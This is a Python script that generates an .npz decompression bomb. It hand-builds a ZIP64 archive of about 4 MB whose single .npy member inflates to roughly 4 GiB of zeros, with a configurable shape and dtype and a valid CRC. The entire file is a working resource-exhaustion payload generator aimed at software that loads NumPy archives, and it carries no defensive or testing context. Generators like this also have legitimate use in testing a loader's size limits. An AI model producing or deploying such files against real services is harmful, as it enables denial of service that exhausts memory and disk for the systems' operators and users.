#!/usr/bin/env python3
"""Writes an .npz bomb: one member x.npy, float32 of shape (2^30,), all
zeros: 4,294,967,424 bytes once inflated (a 128-byte .npy header and 4 GiB
of data), about 4 MB on disk (ZIP64, deflate, a valid CRC-32).

Usage: make_npz_bomb.py OUT.npz [--shape D0,D1,...] [--dtype <f4|<f8]
(--shape: the .npy shape, default 1073741824; its size must be a whole
number of MiB)
The deflate stream is one compressed 1 MiB block of zeros repeated (each
ends in a full flush, which resets the compressor, so every repeat is the
same bytes): no 4 GiB buffer is ever built here.
"""
import argparse
import struct
import zlib

ap = argparse.ArgumentParser()
ap.add_argument("out")
ap.add_argument("--shape", default=str(1 << 30))
ap.add_argument("--dtype", default="<f4")
a = ap.parse_args()
shape = [int(d) for d in a.shape.split(",")]
elements = 1
for d in shape:
    elements *= d

header = ("{'descr': '%s', 'fortran_order': False, 'shape': (%s,), }" %
          (a.dtype, ", ".join(map(str, shape))))
header = header + " " * (128 - 10 - len(header) - 1) + "\n"
npy_head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
assert len(npy_head) == 128
nbytes = elements * int(a.dtype[2:])
raw_size = len(npy_head) + nbytes

chunk = 1 << 20
assert nbytes % chunk == 0
zeros = bytes(chunk)
c = zlib.compressobj(9, zlib.DEFLATED, -15)
parts = [c.compress(npy_head) + c.flush(zlib.Z_FULL_FLUSH)]
block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
again = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
assert block == again
n = nbytes // chunk
tail = c.flush()
crc = zlib.crc32(npy_head)
for _ in range(n):
    crc = zlib.crc32(zeros, crc)
comp_size = len(parts[0]) + len(block) * n + len(tail)

name = b"x.npy"
# Local header with a ZIP64 extra (both sizes).
local_extra = struct.pack("<HHQQ", 1, 16, raw_size, comp_size)
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0, crc,
                    0xFFFFFFFF, 0xFFFFFFFF, len(name), len(local_extra))
with open(a.out, "wb") as f:
    f.write(local + name + local_extra)
    f.write(parts[0])
    for _ in range(n):
        f.write(block)
    f.write(tail)
    cd_offset = f.tell()
    cd_extra = struct.pack("<HHQQ", 1, 16, raw_size, comp_size)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0,
                          crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name),
                          len(cd_extra), 0, 0, 0, 0, 0)
    cd = central + name + cd_extra
    f.write(cd)
    z64_offset = f.tell()
    f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1,
                        len(cd), cd_offset))
    f.write(struct.pack("<IIQI", 0x07064B50, 0, z64_offset, 1))
    f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd),
                        cd_offset, 0))
